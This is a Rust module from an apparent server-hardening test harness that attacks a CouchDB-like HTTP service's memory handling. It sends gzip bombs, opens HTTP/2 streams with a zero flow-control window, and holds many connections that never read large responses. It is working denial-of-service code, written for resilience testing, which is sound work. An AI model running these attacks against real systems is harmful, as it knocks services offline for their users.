//! Memory: bodies that grow when they are unpacked, and answers that no client reads.

use std::io::Write;
use std::thread;
use std::time::Duration;

use anyhow::Result;
use flate2::Compression;
use flate2::write::GzEncoder;

use crate::attack::client::head;
use crate::attack::entry::{Attack, Expect, HostileRequest, Text, ask, attack};
use crate::attack::target::Target;

pub(super) const ALL: &[Attack] = &[
    Attack { act: Some(gzip_bombs), ..attack("gzip-bombs", 8) },
    Attack { prepare: large_documents, act: Some(closed_windows), ..attack("closed-windows", 1) },
    Attack { prepare: large_documents, act: Some(non_readers), ..attack("non-readers", 1) },
    Attack { prepare: forty_megabytes, requests: UNREAD, ..attack("unread-answers", 300) },
];

const UNREAD: &[HostileRequest] = &[
    unread("GET /public/_all_docs?include_docs=true"),
    unread("GET /public/_changes?include_docs=true"),
    unread("GET /public/_changes?include_docs=true&feed=continuous"),
    unread("GET /public/_design/d/_view/v?include_docs=true"),
    unread("GET /public/_design/d/_list/l/v"),
];

const fn unread(line: &'static str) -> HostileRequest {
    ask(line, Text::Is("")).expects(Expect::LeavesAfter(Duration::from_secs(20)))
}

fn forty_megabytes(target: &Target) -> Result<()> {
    let text = "x".repeat(10_000);
    for batch in 0..10 {
        let docs: Vec<String> =
            (0..400).map(|number| format!("{{\"_id\":\"{batch}-{number}\",\"text\":\"{text}\"}}")).collect();
        target.make("POST /public/_bulk_docs", format!("{{\"docs\":[{}]}}", docs.join(",")).as_bytes())?;
    }
    let list = "function(head,req){var row;while(row=getRow()){send(row.value)}}";
    let design = format!(
        "{{\"views\":{{\"v\":{{\"map\":\"function(doc){{emit(null,doc.text)}}\"}}}},\"lists\":{{\"l\":\"{list}\"}}}}"
    );
    target.make("PUT /public/_design/d", design.as_bytes())?;
    target.make("GET /public/_design/d/_view/v?limit=1", b"")
}

fn gzip_bombs(target: &Target) {
    let megabytes = target.count(200, 1000);
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..megabytes {
        let _ = encoder.write_all(&spaces);
    }
    let bomb = encoder.finish().unwrap_or_default();
    while !target.is_over() {
        for line in ["POST /_session", "PUT /public/doc", "POST /public/_bulk_docs", "POST /public/_find"] {
            let Ok(mut connection) = target.connect() else { return };
            let _ = connection.ask(line, "Content-Encoding: gzip\r\n", &bomb);
        }
    }
}

const LARGE_PATHS: [&str; 3] =
    ["/public/large", "/public/_all_docs?include_docs=true", "/public/_changes?include_docs=true"];

fn large_documents(target: &Target) -> Result<()> {
    let large = format!("{{\"text\":\"{}\"}}", "x".repeat(5_000_000));
    for name in ["large", "large2", "large3", "large4"] {
        target.make(&format!("PUT /public/{name}"), large.as_bytes())?;
    }
    Ok(())
}

fn closed_windows(target: &Target) {
    let mut connections = Vec::new();
    for _ in 0..target.count(10, 50) {
        let Ok(mut connection) = target.connect() else { continue };
        // SETTINGS with INITIAL_WINDOW_SIZE 0, and another one to acknowledge those of the server.
        let mut text =
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0\0\0\0\x04\x01\0\0\0\0".to_vec();
        for stream in 0..90_u32 {
            let path = LARGE_PATHS[stream as usize % LARGE_PATHS.len()];
            let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
            block.extend_from_slice(path.as_bytes());
            block.extend_from_slice(b"\x01\x01x");
            text.extend_from_slice(&[0, 0, block.len() as u8, 1, 5]);
            text.extend_from_slice(&(2 * stream + 1).to_be_bytes());
            text.extend_from_slice(&block);
        }
        let _ = connection.write(&text);
        connections.push(connection);
    }
    for _ in 0..50 {
        if target.is_over() {
            return;
        }
        thread::sleep(Duration::from_millis(100));
    }
}

fn non_readers(target: &Target) {
    let mut connections = Vec::new();
    for number in 0..target.count(300, 2000) {
        let Ok(mut connection) = target.connect() else { continue };
        let _ = connection.write(&head(&format!("GET {}", LARGE_PATHS[number % LARGE_PATHS.len()]), "", 0));
        connections.push(connection);
        if target.is_over() {
            return;
        }
    }
    for _ in 0..50 {
        if target.is_over() {
            return;
        }
        thread::sleep(Duration::from_millis(100));
    }
}
